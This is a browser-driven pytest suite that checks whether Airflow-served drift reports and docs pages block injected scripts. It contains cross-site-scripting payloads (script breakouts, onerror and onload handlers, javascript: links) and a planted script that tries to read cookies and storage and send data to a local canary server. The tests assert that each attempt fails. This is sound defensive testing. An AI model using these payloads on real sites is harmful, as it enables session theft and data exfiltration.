"""A feed that tries to write the page: what a real browser does with the pages of a real Airflow."""

from __future__ import annotations

import shutil
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import numpy as np
import pandas as pd
import pytest

from updraft.monitoring.report import Verdict, write_report

CHROMIUM = next((path for name in ("chromium", "google-chrome", "chrome") if (path := shutil.which(name))), None)
pytestmark = [
    pytest.mark.timeout(600),
    pytest.mark.skipif(CHROMIUM is None, reason="no Chromium here: `apt-get install chromium`"),
]
PATIENCE = 60_000  # milliseconds
COOKIE = "session_of_another_kind"
"""A cookie of Airflow's origin that scripts may read, unlike the sign-in's."""


class Canary(ThreadingHTTPServer):
    """Notes each request that reaches it."""

    def __init__(self) -> None:
        self.paths: list[str] = []
        super().__init__(("127.0.0.1", 0), _Note)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_port}"


class _Note(BaseHTTPRequestHandler):
    server: Canary

    def do_GET(self) -> None:
        self.server.paths.append(self.path)
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()

    do_POST = do_GET

    def log_message(self, *_arguments: object) -> None:
        pass


@pytest.fixture
def canary() -> Iterator[Canary]:
    with Canary() as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield server
        server.shutdown()


@pytest.fixture
def page(team_airflow):
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu"])
        context = browser.new_context(viewport={"width": 1500, "height": 1000})
        signed_in = {"name": "_token", "value": team_airflow.token("admin"), "url": team_airflow.url, "httpOnly": True}
        context.add_cookies([signed_in, {"name": COOKIE, "value": "secret", "url": team_airflow.url}])
        tab = context.new_page()
        tab.set_default_timeout(PATIENCE)
        tab.dialogs = []
        tab.on("dialog", lambda dialog: (tab.dialogs.append(dialog.message), dialog.dismiss()))
        yield tab
        browser.close()


def hostile_texts(canary: str) -> list[str]:
    """Categories, each of which runs a script where its kind of text is not escaped."""
    act = f"window.owned=1;document.title='owned';fetch('{canary}/fetched');alert('owned')"
    return [
        f"</script><script>{act}</script>",
        f"<!--<script>{act}</script>-->",
        f'<img src="{canary}/image.png" onerror="{act}">',
        f'"><svg onload="{act}">',
        f"';{act};'",
        f'";{act};"',
        f"\u2028{act};\u2029",
        f'<a href="javascript:{act}">a link</a>',
        "<b>bold</b>",
        "&lt;i&gt;",
        "${1+1} {{1+1}}",
        "</title></style></textarea><script>alert(1)</script>",
    ]


def partition(texts: list[str], shift: float, seed: int) -> pd.DataFrame:
    """1,200 rows with these categories, and with columns of these names."""
    rng = np.random.default_rng(seed)
    rows = 1200
    frame = pd.DataFrame({"distance": rng.normal(shift, 1, rows), "carrier": rng.choice(texts, rows)})
    for text in texts[:4]:
        frame[f"{text}."] = rng.normal(0, 1, rows)
    return frame


def test_names_and_categories_are_texts_in_a_report_whose_picture_still_draws(team_airflow, page, canary):
    texts = hostile_texts(canary.url)
    url = f"{team_airflow.lake}/alpha/reports/2026-01-05T0500/evidently.html"
    title = "alpha </title><script>alert('title')</script>"
    shifted = partition(texts, 1, 2)
    verdict = Verdict(f"Drift alarm of {texts[2]}", texts, 3.0, dict.fromkeys(shifted.columns, 4.0))
    assert write_report(partition(texts, 0, 1), shifted, url, title, verdict)["drawn"] == sorted(shifted.columns)

    page.goto(f"{team_airflow.url}/updraft/files/alpha/reports/2026-01-05T0500/evidently.html")
    for name in ("distance", "carrier", *(f"{text}." for text in texts[:4])):
        page.get_by_text(name, exact=True).first.wait_for()
    assert page.title() == title
    page.get_by_role("row").filter(has=page.get_by_text("carrier", exact=True)).get_by_role("button").first.click()
    page.locator(".js-plotly-plot .barlayer path").first.wait_for(state="attached")
    ticks = page.locator(".js-plotly-plot .xtick text").all_text_contents()
    assert {" ".join(tick.split()) for tick in ticks} == {" ".join(text.split()) for text in texts}
    assert page.locator(".js-plotly-plot .xtick a").count() == 0
    page.wait_for_timeout(500)
    assert page.evaluate("() => window.owned") is None
    assert (page.dialogs, canary.paths) == ([], [])


def test_a_page_that_runs_a_script_reads_no_cookie_and_reaches_nothing(team_airflow, page, canary):
    """A report as an earlier release wrote it, with a stranger's script in it."""
    folder = team_airflow.lake / "alpha" / "reports" / "old"
    folder.mkdir(parents=True, exist_ok=True)
    script = f"""<!doctype html><h1>Old</h1><script>
    const tried = {{}};
    const note = (name, action) => {{ try {{ tried[name] = String(action()) }} catch (error) {{ tried[name] = error.name }} }};
    note("cookie", () => document.cookie);
    note("storage", () => localStorage.length);
    note("frame", () => {{ const frame = document.createElement("iframe"); frame.src = "{canary.url}/frame";
                           document.body.append(frame); return "appended" }});
    new Image().src = "{canary.url}/image";
    navigator.sendBeacon("{canary.url}/beacon", "x");
    const loaded = document.createElement("script"); loaded.src = "{canary.url}/script.js"; document.head.append(loaded);
    const form = document.createElement("form"); form.action = "{canary.url}/form"; document.body.append(form); form.submit();
    Promise.all([
      fetch("{canary.url}/fetched").then(() => "read", (error) => error.name),
      fetch("/api/v2/dags", {{credentials: "include"}}).then(() => "read", (error) => error.name),
    ]).then(([elsewhere, api]) => {{ window.tried = {{...tried, elsewhere, api}} }});
    alert("seen?");
    </script>"""
    (folder / "evidently.html").write_text(script)

    page.goto(f"{team_airflow.url}/updraft/files/alpha/reports/old/evidently.html")
    page.wait_for_function("() => window.tried")
    page.wait_for_timeout(500)
    tried = page.evaluate("() => window.tried")
    assert tried["cookie"] == tried["storage"] == "SecurityError"
    assert tried["elsewhere"] == tried["api"] == "TypeError"
    assert (page.dialogs, canary.paths) == ([], [])


@pytest.mark.parametrize("part", ["docs", "searches", "releases"])
def test_a_page_that_needs_no_script_runs_none(team_airflow, page, canary, part):
    folder = team_airflow.lake / "alpha" / part / "old"
    folder.mkdir(parents=True, exist_ok=True)
    script = f"window.owned = 1; fetch('{canary.url}/fetched')"
    (folder / "index.html").write_text(
        f'<!doctype html><style>h1 {{ color: rgb(1, 2, 3) }}</style><h1>Old</h1><script>{script}</script><img src=x onerror="{script}">'
    )
    page.goto(f"{team_airflow.url}/updraft/files/alpha/{part}/old/index.html")
    assert page.locator("h1").evaluate("(heading) => getComputedStyle(heading).color") == "rgb(1, 2, 3)"
    assert page.evaluate("() => window.owned") is None
    assert canary.paths == []


def test_a_picture_is_shown_and_a_link_leads_to_the_next_page(team_airflow, page):
    import matplotlib.figure

    folder = team_airflow.lake / "alpha" / "releases"
    folder.mkdir(parents=True, exist_ok=True)
    figure = matplotlib.figure.Figure(figsize=(2, 1))
    figure.savefig(folder / "alpha-v1.png")
    docs = team_airflow.lake / "alpha" / "docs" / "2026-01-05T0500"
    docs.mkdir(parents=True, exist_ok=True)
    (docs / "index.html").write_text("<!doctype html><title>a partition</title>")
    (docs.parent / "index.html").write_text('<!doctype html><a href="2026-01-05T0500/index.html">partition</a>')

    page.goto(f"{team_airflow.url}/updraft/files/alpha/releases/alpha-v1.png")
    assert page.locator("img").evaluate("(image) => image.naturalWidth") == 200
    page.goto(f"{team_airflow.url}/updraft/files/alpha/docs/index.html")
    page.get_by_role("link", name="partition").click()
    page.wait_for_url("**/2026-01-05T0500/index.html")
    assert page.title() == "a partition"


def test_airflow_may_show_a_page_in_a_frame_and_nobody_else(team_airflow, page, canary):
    docs = team_airflow.lake / "alpha" / "docs" / "framed"
    docs.mkdir(parents=True, exist_ok=True)
    (docs / "index.html").write_text("<!doctype html><h1>framed page</h1>")
    address = f"{team_airflow.url}/updraft/files/alpha/docs/framed/index.html"
    frame = f"""() => {{ const frame = document.createElement("iframe"); frame.src = "{address}"; frame.id = "framed";
                  document.body.append(frame) }}"""
    page.goto(f"{team_airflow.url}/api/v2/version")
    page.evaluate(frame)
    page.frame_locator("#framed").get_by_text("framed page").wait_for()
    page.goto(canary.url)
    page.evaluate(frame)
    page.wait_for_timeout(1500)
    assert page.frame_locator("#framed").get_by_text("framed page").count() == 0
